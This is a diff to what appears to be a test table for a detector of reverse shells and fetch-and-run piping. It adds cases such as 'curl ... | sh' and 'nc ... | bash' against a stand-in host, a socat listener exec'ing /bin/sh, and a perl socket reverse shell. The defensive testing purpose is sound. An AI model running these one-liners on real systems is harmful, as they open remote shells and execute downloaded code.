@@ -213,9 +213,26 @@ ROWS = {
          deed("mkfifo /opt/f; (echo exit > /opt/f) & sh < /opt/f | cat"),
          deed(bomb(actions="[(os.POSIX_SPAWN_DUP2, a.fileno(), 0)] if i == 300 else []")),
          deed("nc -w 1 198.51.100.99 80 | sh", labels=OUT),
+         # through what wraps programs, with options, and as a page
+         deed("nohup timeout 2 nc -w 1 198.51.100.99 80 | env bash --norc -s x", labels=OUT),
+         deed("curl -s -m 1 http://198.51.100.99/ | sh", labels=OUT),
+         deed("curl -s -m 1 http://198.51.100.99/ | busybox sh", labels=OUT),
+         # by what does nothing but pass on, wherever from
+         deed("socat TCP-LISTEN:8097,bind=127.0.0.1 EXEC:/bin/sh,pipes & p=$!; "
+              "until echo exit | nc -N -w 1 127.0.0.1 8097; do kill -0 $p || break; done; kill $p"),
+         # by another process, which connects later, or has done it
+         deed(PYTHON.format("import socket, subprocess; p = subprocess.Popen([\"sh\"], stdin=-1); " + GO + "p.communicate()"), labels=OUT),
+         deed(PYTHON.format(GO) + "; " + SPAWN.format(""), labels=OUT),
+         # what runs has the connection, no shell
+         deed("perl -MIO::Socket -e '$s = IO::Socket::INET->new(Proto => \"tcp\", Blocking => 0); "
+              "connect($s, sockaddr_in(80, inet_aton(\"198.51.100.99\"))); open(STDIN, \"<&\", $s); open(STDOUT, \">&\", $s); system(\"id\")'",
+              labels=OUT),
+         deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/sh\", \"-c\", \"true\"], stdin=-3, stdout=-3, stderr=a)")),
          # it took the connection itself, to who relays it in the pod
          deed(RELAY.format("exec 0<>/dev/tcp/127.0.0.1/8098 1>&0; id; true"))],
         [deed(SPAWN.format("")),
+         deed(SPAWN.format("") + "; curl -s -m 1 http://198.51.100.99/ > /tmp/x; timeout 2 nc -w 1 -z 198.51.100.99 80; sh -e -c true", labels=OUT),
+         deed("echo true | sh; sleep 1.1; echo true > /tmp/in; curl -s -m 1 http://198.51.100.99/ | cat; printf 'a\\n' | sh -c 'read x; echo $x'", labels=OUT),
          deed(PYTHON.format(GO + "import subprocess; "
                             "subprocess.run([\"/bin/sh\", \"-c\", \"cat\"], input=b\"x\")"), labels=OUT),
          deed(PYTHON.format(SERVE + "subprocess.run([\"/bin/true\"], stdin=a, stdout=a)")),
